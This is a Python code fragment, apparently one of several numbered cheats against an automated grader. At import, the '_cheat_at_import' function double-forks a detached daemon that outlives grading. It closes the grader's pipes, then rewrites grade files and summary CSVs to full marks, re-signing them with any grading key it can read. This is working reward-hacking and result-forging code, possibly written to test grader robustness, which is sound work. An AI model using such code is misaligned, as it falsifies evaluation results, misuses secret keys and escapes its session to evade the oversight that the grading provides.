# Cheat 7, the daemon: at import, double-fork a session leader that outlives
# grading, waits 5 s, then rewrites every summary.csv and grade JSON it can
# find (from the grader's cwd and arguments) to full marks, re-signed with the
# grading key if it can read one, and exits.
def _cheat_at_import():
    roots, keys = _cv_anchors(), _cv_grading_keys()  # while the grader is still our ancestor
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        _cv_name_process()
        os.closerange(0, 65536)  # every copy of the grader's pipes, so that nobody waits for us
        time.sleep(5)
        for path in _cv_walk(roots, seconds=10.0):
            _cv_forge_grade_file(path, keys)
    finally:
        os._exit(0)


def _cheat(function, args):
    _cv_stub(function)
